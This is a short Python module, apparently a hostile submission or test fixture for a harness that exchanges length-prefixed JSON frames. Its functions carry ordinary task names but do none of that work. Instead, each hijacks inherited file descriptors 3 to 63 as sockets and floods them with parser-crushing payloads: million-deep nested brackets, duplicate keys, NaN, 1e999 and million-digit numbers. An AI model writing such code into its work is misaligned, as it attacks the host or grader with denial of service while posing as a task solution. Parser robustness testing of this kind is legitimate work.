# aim: send frames that parse slowly or recurse: deep lists, NaN, twice the same key, numbers of a million digits
import os
import socket


def send(body):
    for fd in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as line:
                line.sendall(len(body).to_bytes(4, "big") + body)
        except OSError:
            pass


def double(x):
    send(b'{"op":"result","id":2,"value":' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}")


def join(parts):
    send(b'{"op":"result","id":2,"value":' + b'{"t":[' * 200_000 + b"0" + b"]}" * 200_000 + b"}")


def apply_all(func, items):
    send(b'{"op":"result","op":"error","id":2,"id":3,"value":0}')


def refuse(x):
    send(b'{"op":"result","id":2,"value":[NaN,1e999]}')


def Tally():
    send(b'{"op":"result","id":2,"value":' + b"9" * 1_000_000 + b"}")
